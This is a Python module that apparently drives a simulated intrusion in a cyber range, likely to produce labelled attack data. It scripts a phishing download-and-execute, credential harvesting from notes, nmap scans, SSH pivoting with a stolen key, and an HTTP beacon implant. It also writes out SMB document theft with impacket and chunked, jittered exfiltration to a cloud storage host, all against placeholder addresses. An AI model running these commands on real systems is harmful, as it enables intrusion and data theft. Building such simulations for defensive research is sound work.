# SPDX-License-Identifier: GPL-2.0-or-later
"""The intrusion of scenario `cloud`: a phished desk, the jump host, launch data, an allowed cloud.

The payload comes over HTTPS, its control over plain HTTP on another port. With a
password from the victim's notes the intruder enters the jump host, takes its key to the
data server and to a second desk, which pulls documents by SMB (impacket) and uploads them
in chunks to the storage service that colleagues use too.
"""

import pathlib
import threading
import time

from . import documents

ADDRESS, NAME, PORT, PAGE = "192.0.2.219", "sync.softpatch.example", 8088, "poll"
LURE, LURE_NAME = "198.51.100.201", "docs-share.example"
IMPLANT = {"WHAT": "beacon http", "ADDRESS": ADDRESS, "PORT": PORT, "NAME": NAME, "SCHEME": "http", "PATH": PAGE,
           "AGENT": "SoftPatch/3.1", "LOW": 7, "HIGH": 10}
VICTIM, JUMP, SOURCE, STAGE = "10.20.0.34", "10.50.0.20", "10.40.0.10", "10.20.0.23"
CLOUD, CLOUD_NAME, ACCOUNT = "198.51.100.100", "drive.cloudstore.example", "9f27c1"
CHUNK = 40 * 1024
IMPACKET = "/usr/share/doc/python3-impacket/examples/smbclient.py"

CLICK = r"""
export PATH=/mnt/bin:$PATH HOSTNAME; cd /tmp
ip=$(rec 'look-up of @N@' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @N@ | tail -n 1)
rec 'payload download' tcp - @A@:443 curl -sk --resolve @N@:443:$ip -o invoice-4471.sh https://@N@/invoice-4471.sh
sleep 4
setsid nohup bash invoice-4471.sh ws14 >/dev/null 2>&1 </dev/null &
""".replace("@N@", LURE_NAME).replace("@A@", LURE)

STEAL = r"""
trap '' HUP
mkdir -p /var/tmp/.d/out; cd /var/tmp/.d
pull() {
	printf 'use share\ncd campaign\n%b\nexit\n' "$1" >cmds
	rec 'smb theft' tcp - @SOURCE@:445 /usr/bin/python3 @IMPACKET@ -file cmds '@LOGIN@'
}
leave() {
	split -b @CHUNK@ -d "$1" "out/$1."
	for piece in out/"$1".*; do
		ip=$(rec 'look-up of @CLOUD_NAME@' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @CLOUD_NAME@ | tail -n 1)
		rec 'theft cloud' tcp - @CLOUD@:443 curl -sk -m 30 --resolve "@CLOUD_NAME@:443:$ip" -T "$piece" \
			"https://@CLOUD_NAME@/u/@ACCOUNT@-${piece##*/}"
		sleep "$(awk -v r=$RANDOM 'BEGIN { print @GAP@ * (0.6 + 0.8 * r / 32768) }')"
	done
}
@STEPS@
"""


def plant(agent):
    """What the intruder will find: a password in the victim's notes, a key on the jump host."""
    if agent.host.name == "ws14":
        notes = pathlib.Path("/home/%s/notes.txt" % agent.host.user)
        notes.write_text("jump host 10.50.0.20, campaign data 10.40.0.10\nlogin ops, password %s\n" % agent.agency.people["ops"])
        begin = agent.start + agent.parameters["baseline"]
        threading.Timer(begin - time.time(), click, (agent,)).start()
    if agent.host.name == "jump":
        agent.key("/home/ops/.ssh/id_ed25519", "ops", "ops")
        pathlib.Path("/home/ops/.ssh/config").write_text("Host data-lo\n  HostName 10.40.0.10\nHost desk03\n  HostName 10.20.0.23\n")


def click(agent):
    """What the phished person does on ws14; the agent of that desk runs it."""
    agent.tool("setpriv", "--reuid=" + agent.host.user, "--regid=100", "--clear-groups", "bash", "-c", CLICK,
               HOME="/home/" + agent.host.user, HOSTNAME=agent.host.name, CURL_CA_BUNDLE="/mnt/ca.pem")


def operate(agent, book):
    from .intruder import hop
    control = agent.control
    scale = agent.parameters["attack"] / 450.0
    secret = agent.agency.people["ops"]

    def work(implant, script, timeout=90):
        output = control.run(implant, "export PATH=/mnt/bin:$PATH HOSTNAME\n" + script, timeout)
        book.say("%s: %s" % (implant, script[:200]), output)
        return output or ""

    book.at(0)
    control.wait("ws14", 60)
    book.compromised("ws14", "phished: the user ran a downloaded script", book.begin)

    book.at(25)
    if secret not in work("ws14", "id; ip -br addr; ls -la ~; cat ~/notes.txt"):
        raise RuntimeError("no notes")
    book.at(50)
    for n, (prefix, ports) in enumerate((("10.50.0.0/26", "22,3389"), ("10.40.0.0/27", "22,445"))):
        work("ws14", "rec 'nmap from ws14' tcp - %s:%s nmap -sT -Pn -n -T4 --max-retries 0 --max-rate 12 -p %s "
             "-oG /mnt/truth/inside-%d.gnmap %s | grep -B 9 open" % (prefix, ports.replace(",", "+"), ports, n, prefix))

    book.at(100)
    since = time.time()
    if "ED25519" not in work("ws14", hop(JUMP, "ops", "id; hostname; ls -la ~/.ssh; cat ~/.ssh/config; ssh-keygen -lf ~/.ssh/id_ed25519", secret)):
        raise RuntimeError("no key on the jump host")
    book.compromised("jump", "SSH from ws14 with a password from the user's notes", since)

    book.at(130)
    since = time.time()
    look = hop(SOURCE, "ops", "id; ls -l /srv/share/campaign", key="~/.ssh/id_ed25519", what="ssh to the data server")
    if documents.LAUNCH[0][0] not in work("ws14", hop(JUMP, "ops", look, secret)):
        raise RuntimeError("no listing")
    book.compromised("data-lo", "SSH from jump with the key found there", since)

    book.at(160)
    since = time.time()
    implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' {n} | tail -n 1)\n"
               "rec 'implant download' tcp - {a}:{p} curl -s --resolve {n}:{p}:$ip -o .u http://{n}:{p}/p\n"
               "setsid nohup bash .u ws03 >/dev/null 2>&1 </dev/null &\n").format(n=NAME, a=ADDRESS, p=PORT)
    work("ws14", hop(JUMP, "ops", hop(STAGE, "ops", implant, key="~/.ssh/id_ed25519"), secret))
    control.wait("ws03", 40)
    book.compromised("ws03", "SSH from jump with the key found there", since)

    book.at(190)
    names = [name for name, _ in documents.LAUNCH]
    steps = ""
    for pair in (names[:2], names[2:4], names[4:]):
        steps += "pull '%s'\nsleep %d\n" % ("\\n".join("get " + n for n in pair), 5 * scale)
        steps += "".join("leave %s\n" % n for n in pair)
    text = STEAL.replace("@STEPS@", steps)
    for blank, value in {"LOGIN": "ops:%s@%s" % (secret, SOURCE), "SOURCE": SOURCE, "IMPACKET": IMPACKET, "CHUNK": CHUNK,
                         "CLOUD_NAME": CLOUD_NAME, "CLOUD": CLOUD, "ACCOUNT": ACCOUNT, "GAP": 10.5 * scale}.items():
        text = text.replace("@%s@" % blank, str(value))
    work("ws03", "cat >/tmp/.s <<'END'\n%s\nEND\nsetsid nohup bash /tmp/.s >/dev/null 2>&1 </dev/null &\n" % text)
    book.at(449)
